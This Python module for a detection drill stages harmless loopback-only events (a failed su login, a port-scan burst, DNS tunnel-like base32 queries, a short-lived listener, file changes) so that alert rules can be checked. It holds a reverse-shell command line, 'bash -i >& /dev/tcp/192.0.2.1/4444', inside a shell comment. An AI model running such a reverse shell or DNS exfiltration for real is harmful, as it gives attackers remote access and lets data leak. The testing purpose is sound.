"""The drill's actions: harmless, reversible, on this machine only; each cleans up after itself.

Every action carries a nonce of this run where the telemetry can hold one, so that an alert is matched to
the action that caused it and never to an older one.
"""

import base64
import contextlib
import hashlib
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Final

from crypto.words import LiuheError, Words

CONNECTIONS: Final = 120  # enough for the scan detector, harmless for a loopback
HOLD_SECONDS: Final = 6.0  # a listener and a process stay this long, so that polling sources see them too
TUNNEL_QUERIES: Final = 12
RESOLVER_SECONDS_MAX: Final = 5.0
_TXT: Final = 16

Announce = Callable[[Words], None]


@dataclass(frozen=True, kw_only=True)
class Action:
    """One step: what is done, the rule that must answer, and the text its events must hold."""

    name: str
    title: Words
    rules: tuple[str, ...]  # stable ids; the first that fires counts
    marker: str
    source: str  # how the name of the sensor's source that must see it begins
    act: Callable[[], None]
    needs: Callable[[], Words | None] = lambda: None
    answer_seconds: float = 0.0  # how long to wait after the act; 0: as long as for most


def failed_login() -> None:
    """A wrong password for an account that nobody can log in with: su records it in btmp."""
    if os.geteuid() == 0:
        command = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "su", "nobody"]
    else:
        command = ["su", "nobody"]
    wrong = b"liuhe-drill-wrong-password\n"
    subprocess.run(command, input=wrong, capture_output=True, timeout=30, check=False)


def login_tools_missing() -> Words | None:
    """Why the failed login can't be staged here, None where it can."""
    names = ["su", "setpriv"] if os.geteuid() == 0 else ["su"]
    absent = [name for name in names if shutil.which(name) is None]
    if absent:
        return Words(f"本机没有 {' '.join(absent)}", f"this machine has no {' '.join(absent)}")
    return None


def connection_burst(source: str = "127.0.0.1") -> None:
    """Connections to loopback ports where nothing listens; the kernel refuses each at once."""
    knock_on(source, "127.0.0.1", range(20_000, 20_000 + CONNECTIONS * 37, 37))


def knock_on(source: str, target: str, ports: Iterable[int]) -> None:
    """Connections to ports of a loopback address where nothing listens."""
    for port in ports:
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as client:
            client.settimeout(0.2)
            client.bind((source, 0))
            with contextlib.suppress(OSError):
                client.connect((target, port))


def tunnel_names(nonce: str) -> None:
    """Names that look like data."""
    labels = [_label(f"{nonce}{number:02d}") for number in range(TUNNEL_QUERIES)]
    ask_names([(f"{label}.t.drill.invalid", _TXT) for label in labels], "127.0.0.1")


def ask_names(questions: Sequence[tuple[str, int]], source: str) -> None:
    """Names and record types asked of a resolver of our own on loopback; .invalid can't leave it."""
    with _resolver() as address, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.bind((source, 0))
        client.settimeout(1.0)
        for number, (name, kind) in enumerate(questions):
            client.sendto(_query(number + 1, name, kind), address)
            with contextlib.suppress(TimeoutError):
                client.recvfrom(512)


@contextlib.contextmanager
def _resolver() -> Iterator[tuple[str, int]]:
    """A resolver on a free loopback port that answers NXDOMAIN, for as long as the block runs."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
        server.bind(("127.0.0.1", 0))
        server.settimeout(0.2)
        done = threading.Event()
        deadline = time.monotonic() + RESOLVER_SECONDS_MAX

        def answer() -> None:
            while not done.is_set() and time.monotonic() < deadline:
                with contextlib.suppress(TimeoutError):
                    query, peer = server.recvfrom(512)
                    # RFC 1035 4.1.1: QR, RD, RA set; RCODE 3 = no such name.
                    server.sendto(query[:2] + b"\x81\x83" + query[4:], peer)

        thread = threading.Thread(target=answer, daemon=True)
        thread.start()
        try:
            yield server.getsockname()
        finally:
            done.set()
            thread.join()


def _label(seed: str) -> str:
    """60 characters in the base32 alphabet, made from the seed: what an encoder of stolen data emits."""
    return base64.b32encode(hashlib.sha512(seed.encode()).digest()).decode().lower().rstrip("=")[:60]


def _query(identifier: int, name: str, kind: int = _TXT) -> bytes:
    """A DNS query, class IN (RFC 1035 4.1)."""
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    question = labels + b"\x00" + kind.to_bytes(2, "big") + b"\x00\x01"
    return identifier.to_bytes(2, "big") + b"\x01\x00\x00\x01" + bytes(6) + question


def free_port() -> int:
    """A loopback port that nothing listens on now."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


def new_listener(port: int) -> None:
    """A listening port on loopback by a process of its own, closed after a few seconds."""
    program = (
        f"import socket,time;s=socket.socket();s.bind(('127.0.0.1',{port}));s.listen(1);"
        f"time.sleep({HOLD_SECONDS})"
    )
    subprocess.run([sys.executable, "-c", program], timeout=HOLD_SECONDS * 5, check=True)


def changed_file(folder: Path, nonce: str) -> None:
    """A file of the drill's own in a watched folder is written, changed and removed."""
    path = folder / f"drill-{nonce}.conf"
    try:
        path.write_text("state = 1\n")
        time.sleep(1.5)
        path.write_text("state = 2 # changed by the drill\n")
        time.sleep(1.5)
    except OSError as error:
        raise LiuheError(
            "drill-folder",
            Words("演练目录不可写", "the drill's folder can't be written"),
            Words("请检查权限", "check its permissions"),
            field=str(error.filename),
        ) from error
    finally:
        with contextlib.suppress(OSError):
            path.unlink(missing_ok=True)


def suspicious_command(nonce: str) -> None:
    """A command line that reads like a reverse shell; it is only a comment of a sleeping shell."""
    # A second command keeps the shell, whose command line this is: it would exec a last one away.
    text = f"sleep {HOLD_SECONDS:.0f}; true # {nonce} bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"
    subprocess.run(["/bin/sh", "-c", text], timeout=HOLD_SECONDS * 5, check=False)
